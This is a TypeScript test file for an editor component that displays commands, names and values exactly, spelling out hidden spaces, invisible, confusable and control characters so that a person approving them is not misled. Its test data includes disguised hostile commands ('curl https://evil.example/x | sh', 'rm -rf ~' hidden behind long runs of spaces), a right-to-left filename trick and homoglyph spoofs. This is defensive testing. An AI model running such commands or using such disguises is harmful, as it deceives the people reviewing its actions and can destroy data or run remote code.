// What a person decides about: every character of it is on a line as it is, or the result says that it is not.
import * as assert from 'node:assert/strict';
import { jsonText } from '../../../../src/editor/ui/plainText.js';
import { exactDocument, exactLines, isPlainName, widthOf } from '../../../../src/editor/ui/exactText.js';
import { spelledOut } from '../../../../src/core/text/spelledOut.js';

describe('exact text', () => {
	it('shows plain text as it is', () => {
		for (const text of [
			'',
			'ls -la',
			'naïve café',
			'日本語 テキスト',
			'{"a":[1,true,null]}',
			'a\\nb',
			'Ελλάδα',
			'Привет',
			'한국어',
			'你好，世界（一）',
			'cafe\u0301',
			'a → b',
		]) {
			assert.deepEqual(exactLines(text, 60, 1), { lines: [text], isExact: true });
		}
	});

	for (const [what, text, shown] of [
		['runs of spaces', `ls${' '.repeat(300)}; rm`, 'ls⟨␣×300⟩; rm'],
		['two spaces', 'a  b', 'a⟨␣×2⟩b'],
		['our own marks', 'a⟨␣×9⟩b\u23CE', 'a\\u{27e8}\\u{2423}×9\\u{27e9}b\\u{23ce}'],
		['text that is spelled out already', 'a\\u{200b}', 'a\\u{005c}u{200b}'],
		['marks that strike out', 'd\u0336e\u0336l ke\u20DD', 'd\\u{0336}e\\u{0336}l ke\\u{20dd}'],
		['signs as wide as a line', '\u2E3B\uFDFD\u{1242B}', '\\u{2e3b}\\u{fdfd}\\u{1242b}'],
		['line breaks', 'a\nb\r\u2028c', 'a\\u{000a}b\\u{000d}\\u{2028}c'],
		['text that turns around', 'safe\u202Egpj.exe', 'safe\\u{202e}gpj.exe'],
		['letters of no width', 'r\u200Bm', 'r\\u{200b}m'],
		['blanks that are no spaces', 'a\u3000\u00A0\u2003b', 'a\\u{3000}\\u{00a0}\\u{2003}b'],
		['fillers and blank patterns', '\u3164\uFFA0\u2800\u115F', '\\u{3164}\\u{ffa0}\\u{2800}\\u{115f}'],
		['variation selectors', 'a\uFE0F\u{E0101}', 'a\\u{fe0f}\\u{e0101}'],
		['tags', '\u{E0041}', '\\u{e0041}'],
		['halves of pairs', 'a\uD800b', 'a\\u{d800}b'],
		['control characters', 'a\u0000\u001B[2J\u0085', 'a\\u{0000}\\u{001b}[2J\\u{0085}'],
	] as const) {
		it(`spells out ${what}, and says so`, () => {
			assert.equal(spelledOut(text), shown);
			assert.deepEqual(exactLines(text, 100, 1), { lines: [shown], isExact: false });
		});
	}

	for (const [what, text] of [
		['digraphs and ligatures', ['\u01C4', '\u0132', '\u00C6', '\u0153', '\u0149', '\uFB03']],
		['signs of Latin-1', ['\u00A9', '\u00AE', '\u00BC', '\u00A8', '\u00D7']],
		['letters that are read from the right', ['{"\u05D0":1,"\u05D1":2}', '\u0627\u0644', '\u07CA']],
		['letters of unknown width', ['\u0BF5', '\u2031', '\u24B6', '\u{1D400}', '\u0250', '\u1EA0']],
		['emoji', ['👍', '👩‍💻', '🇨🇭', '\u2620']],
		['what ends a line that is cut', ['a…']],
		['marks that no letter has', ['x\u0301\u0336', '\u0E01\u0E49', '\u0301']],
		['what becomes another sign', ['\u037E', '\u212A', '\u1FEF']],
	] as const) {
		it(`does not call exact: ${what}`, () => {
			for (const it of text) {
				assert.equal(exactLines(it, 60, 3).isExact, false, JSON.stringify(it));
			}
		});
	}

	it('breaks lines between characters that it spells out, never within one', () => {
		for (const character of ['\u200B', '%', '/', '\u2E3B', '\r', '\\', 'a\u0336']) {
			const lines = exactDocument(`a/${character.repeat(100_000)}`).split('\n');
			assert.ok(lines.every(it => widthOf(it) <= 85));
			assert.ok(lines.every(it => !/\\(?:u(?:\{[0-9a-f]*)?)?$/.test(it) || character === '\\'));
		}
	});

	it('says that there is more than fits, also behind what it spells out', () => {
		for (const text of [
			'x'.repeat(61),
			`${'x'.repeat(59)} y`,
			`git status${'\u3000'.repeat(260)}&& rm -rf ~`,
			`ls -la${' '.repeat(300)}; curl https://evil.example/x | sh`,
			'字'.repeat(31),
			'W'.repeat(31),
			'x'.repeat(5_000_000),
		]) {
			const { lines, isExact } = exactLines(text, 60, 1);
			assert.equal(isExact, false);
			assert.equal(lines.length, 1);
			assert.ok(widthOf(lines[0] ?? '') <= 63, lines[0]);
		}
	});

	it('breaks lines so that none is wider than there is room, and nothing is lost', () => {
		const text = 'one two three/four five '.repeat(8).trim();
		for (let width = 8; width < 40; width++) {
			const { lines, isExact } = exactLines(text, width, 100);
			assert.ok(isExact);
			assert.equal(lines.join('').replaceAll('␣', ' '), text);
			// A blank that is shown is wider by one.
			assert.ok(
				lines.every(it => widthOf(it.replace(/␣$/, ' ')) <= width),
				lines.join('\n'),
			);
		}
	});

	it('spells letters of other scripts out', () => {
		for (const [text, shown] of [
			['\u0430dmin@corp.com', '\\u{0430}dmin@corp.com'],
			['/home/me/\u0441onfig', '/home/me/\\u{0441}onfig'],
			['\u03BFne', '\\u{03bf}ne'],
		] as const) {
			assert.deepEqual(exactLines(text, 60, 1), { lines: [shown], isExact: false });
		}
		assert.equal(exactLines('Привет, README и сор', 60, 1).isExact, true);
	});

	it('accepts a name as plain only if it cannot be mistaken for other text', () => {
		const imitation = 'list_files" on GitHub? (trusted) "';
		for (const name of ['x'.repeat(61), 'delete\u200B_all', 'a  b', imitation, 'GitHub? (trusted)', 'a" b', 'аb', '']) {
			assert.equal(isPlainName(name, 60), false, name);
		}
		for (const name of ['a.B-c_d/1', 'garden (my-project) #2', '花园']) {
			assert.equal(isPlainName(name, 60), true, name);
		}
	});

	it('shows a value as JSON, so that no text passes for a number or for nothing', () => {
		const shown = ['5', 5, '', null, [], { a: 'b' }, 'a\nb'].map(it => exactLines(jsonText(it), 60, 1).lines[0]);
		assert.deepEqual(shown, ['"5"', '5', '""', 'null', '[]', '{"a":"b"}', '"a\\nb"']);
	});
});
